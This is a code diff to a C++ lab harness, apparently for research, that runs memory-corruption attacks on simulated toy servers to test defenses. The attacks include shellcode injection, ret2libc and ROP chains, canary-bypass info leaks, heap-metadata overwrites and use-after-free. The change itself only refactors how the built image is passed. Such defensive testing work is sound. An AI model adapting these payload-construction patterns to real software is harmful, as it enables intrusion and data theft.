@@ -70,19 +70,17 @@ struct Lab {
     // sweep hot path.
     std::shared_ptr<const objfmt::Image> held_image;
 
-    [[nodiscard]] const objfmt::Image& build(const std::string& src) {
-        held_image = cached_compile(src, defense.copts);
-        return *held_image;
-    }
-    [[nodiscard]] Process victim(const objfmt::Image& img) const {
+    void build(const std::string& src) { held_image = cached_compile(src, defense.copts); }
+    // Both processes share the built image (no per-process copy).
+    [[nodiscard]] Process victim() const {
         os::SecurityProfile prof = defense.profile;
         prof.fault_injector = victim_faults; // only the deployed machine glitches
         prof.tracer = victim_tracer;         // only the deployed machine is observed
         prof.profiler = victim_profiler;     // ... and profiled
-        return Process(img, prof, victim_seed);
+        return Process(held_image, prof, victim_seed);
     }
-    [[nodiscard]] Process probe(const objfmt::Image& img) const {
-        return Process(img, defense.profile, attacker_seed);
+    [[nodiscard]] Process probe() const {
+        return Process(held_image, defense.profile, attacker_seed);
     }
 
     [[nodiscard]] AttackOutcome finish(Process& v, bool success, std::string note) const {
@@ -123,9 +121,9 @@ struct Lab {
 
     // --- SMASH: stack smashing with direct code injection ------------------
     AttackOutcome stack_smash_inject() {
-        const auto& img = build(scenarios::fig1_server(32));
+        build(scenarios::fig1_server(32));
         // Reconnaissance: where does buf live?  (Exact under no ASLR.)
-        Process pr = probe(img);
+        Process pr = probe();
         pr.feed_input("x");
         (void)pr.run(kMaxSteps);
         const std::uint32_t buf = observed_read_buffer(pr);
@@ -141,7 +139,7 @@ struct Lab {
         }
         pb.word(buf).word(buf); // saved bp, return address -> injected code
 
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         const auto r = v.run(kMaxSteps);
         return finish(v, r.exited(4919), "injected shellcode calls exit(4919)");
@@ -149,8 +147,8 @@ struct Lab {
 
     // --- CODEPTR: function-pointer overwrite --------------------------------
     AttackOutcome code_ptr_hijack(bool mid_function) {
-        const auto& img = build(scenarios::fnptr_server());
-        Process pr = probe(img);
+        build(scenarios::fnptr_server());
+        Process pr = probe();
         // The mid-function variant skips the prologue (push bp; mov bp, sp =
         // 4 bytes): still a working attack on a machine without CFI, but the
         // target is no longer a function entry, so coarse CFI rejects it.
@@ -159,7 +157,7 @@ struct Lab {
 
         PayloadBuilder pb;
         pb.fill(16).word(target);
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "root shell granted");
@@ -169,7 +167,8 @@ struct Lab {
 
     // --- CODECORR: patch the text segment -----------------------------------
     AttackOutcome code_corruption() {
-        const auto& img = build(scenarios::arbwrite_server());
+        build(scenarios::arbwrite_server());
+        const objfmt::Image& img = *held_image;
         // The attacker studies its copy of the binary: find the
         // "mov r0, 0" inside check_auth and patch its immediate to 1.
         const auto& sym = img.symbol("check_auth");
@@ -193,12 +192,12 @@ struct Lab {
         if (imm_off == 0) {
             throw Error("could not locate check_auth immediate");
         }
-        Process pr = probe(img);
+        Process pr = probe();
         const std::uint32_t patch_addr = pr.layout().text_base + imm_off;
 
         PayloadBuilder pb;
         pb.word(patch_addr).word(1);
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "root shell granted");
@@ -207,8 +206,8 @@ struct Lab {
 
     // --- RET2LIBC ------------------------------------------------------------
     AttackOutcome ret2libc() {
-        const auto& img = build(scenarios::rop_server());
-        Process pr = probe(img);
+        build(scenarios::rop_server());
+        Process pr = probe();
         pr.feed_input("x");
         (void)pr.run(kMaxSteps);
         const std::uint32_t grant = pr.addr_of("grant_shell");
@@ -224,15 +223,14 @@ struct Lab {
         // grant_shell() runs, its ret pops exit(); exit reads its code one
         // slot past the junk word.
         chain.gadget(grant).gadget(exit_fn).word(0xcafef00d).word(0);
-        return run_chain(img, pb, chain);
+        return run_chain(pb, chain);
     }
 
-    AttackOutcome run_chain(const objfmt::Image& img, PayloadBuilder& pb,
-                            const attacks::RopChain& chain) {
+    AttackOutcome run_chain(PayloadBuilder& pb, const attacks::RopChain& chain) {
         for (const std::uint32_t w : chain.words()) {
             pb.word(w);
         }
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "root shell granted");
@@ -241,8 +239,8 @@ struct Lab {
 
     // --- ROP: exfiltrate the API key under DEP -------------------------------
     AttackOutcome rop() {
-        const auto& img = build(scenarios::rop_server());
-        Process pr = probe(img);
+        build(scenarios::rop_server());
+        Process pr = probe();
         pr.feed_input("x");
         (void)pr.run(kMaxSteps);
         const std::uint32_t write_fn = pr.addr_of("write");
@@ -259,7 +257,7 @@ struct Lab {
         // link; exit(...) terminates.
         pb.word(write_fn).word(exit_fn).word(1).word(key).word(15);
 
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "S3CR3T-API-KEY!");
@@ -268,10 +266,10 @@ struct Lab {
 
     // --- DATAONLY -------------------------------------------------------------
     AttackOutcome data_only() {
-        const auto& img = build(scenarios::dataonly_server());
+        build(scenarios::dataonly_server());
         PayloadBuilder pb;
         pb.fill(16).word(1); // flip isAdmin; no addresses required at all
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "admin: access granted");
@@ -280,15 +278,15 @@ struct Lab {
 
     // --- INFOLEAK: leak canary + addresses, then bypass [5] -------------------
     AttackOutcome info_leak_bypass() {
-        const auto& img = build(scenarios::leak_server());
+        build(scenarios::leak_server());
 
         // Phase 0 (reconnaissance on the attacker's copy): leak its own
         // stack to learn the *static* relationship between the leaked
         // return address and libc symbols.
-        Process pr = probe(img);
+        Process pr = probe();
         pr.feed_input("32");
         if (!run_until_output(pr, 1, 32)) {
-            Process v = victim(img); // probe's leak failed -> report via victim
+            Process v = victim(); // probe's leak failed -> report via victim
             v.feed_input("32");
             (void)v.run(kMaxSteps);
             return finish(v, false, "leak primitive unavailable");
@@ -300,7 +298,7 @@ struct Lab {
         const std::uint32_t probe_exit = pr.addr_of("exit");
 
         // Phase 1: leak the victim's stack.
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input("32");
         if (!run_until_output(v, 1, 32)) {
             return finish(v, false, "victim leak blocked");
@@ -329,11 +327,11 @@ struct Lab {
 
     // --- HEAPMETA: heap overflow into allocator metadata ------------------------
     AttackOutcome heap_metadata() {
-        const auto& img = build(scenarios::heap_server());
+        build(scenarios::heap_server());
         // Reconnaissance: the write-what-where target.  The forged free-list
         // entry must look like a chunk: *(target-8) >= 16, which the
         // scenario's `pad` global provides (data layout is attacker-known).
-        Process pr = probe(img);
+        Process pr = probe();
         const std::uint32_t target = pr.addr_of("isAdmin");
 
         PayloadBuilder pb;
@@ -341,7 +339,7 @@ struct Lab {
         pb.word(64);                  // forged size for b's header
         pb.word(target - 8);          // forged free-list next pointer
         pb.word(1);                   // second read: the value for isAdmin
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "admin: access granted");
@@ -350,10 +348,10 @@ struct Lab {
 
     // --- UAF --------------------------------------------------------------------
     AttackOutcome use_after_free() {
-        const auto& img = build(scenarios::uaf_server());
+        build(scenarios::uaf_server());
         PayloadBuilder pb;
         pb.word(1).word(0); // stale session reads is_admin == 1
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "admin: access granted");
@@ -362,8 +360,8 @@ struct Lab {
 
     // --- HEAPUNDERFLOW: indexed pokes into heap metadata ------------------------
     AttackOutcome heap_underflow() {
-        const auto& img = build(scenarios::heap_index_server());
-        Process pr = probe(img);
+        build(scenarios::heap_index_server());
+        Process pr = probe();
         const std::uint32_t target = pr.addr_of("isAdmin");
 
         // Byte pokes at a[36..39] forge b's free-list `next` pointer in
@@ -380,7 +378,7 @@ struct Lab {
         }
         pb.word(static_cast<std::uint32_t>(-8));  // rd: underflow into a's size field
         pb.word(1);                               // write-what-where: isAdmin = 1
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "16\n") &&
@@ -392,8 +390,8 @@ struct Lab {
 
     // --- STACKHOP: non-contiguous write hops the canary -------------------------
     AttackOutcome stack_index_hop() {
-        const auto& img = build(scenarios::stack_index_server());
-        Process pr = probe(img);
+        build(scenarios::stack_index_server());
+        Process pr = probe();
         const std::uint32_t grant = pr.addr_of("grant_shell");
 
         // Frame layout is attacker-known: buf is handle()'s first local, so
@@ -408,7 +406,7 @@ struct Lab {
 
         PayloadBuilder pb;
         pb.word(off).word(grant);
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "root shell granted");
@@ -417,11 +415,11 @@ struct Lab {
 
     // --- HEAPOVERREAD: attacker-length echo leaks the neighbour chunk -----------
     AttackOutcome heap_over_read() {
-        const auto& img = build(scenarios::heap_leak_server());
+        build(scenarios::heap_leak_server());
         // Echo length 56 spans msg's 16 user bytes, its 16-byte tail red
         // zone, secret's 8-byte header and the 16 secret bytes — a pure
         // READ with no addresses in the payload, so ASLR is irrelevant.
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input("56");
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "K3Y-4-HEAP-LEAK");
@@ -430,10 +428,10 @@ struct Lab {
 
     // --- HEAPUAFREAD: stale read of a recycled chunk ----------------------------
     AttackOutcome heap_uaf_read() {
-        const auto& img = build(scenarios::uaf_read_server());
+        build(scenarios::uaf_read_server());
         PayloadBuilder pb;
         pb.word(0).word(31337).word(0); // req bytes; stale s[1] aliases bytes 4..7
-        Process v = victim(img);
+        Process v = victim();
         v.feed_input(pb.bytes());
         (void)v.run(kMaxSteps);
         const bool ok = contains(v.output(), "31337");
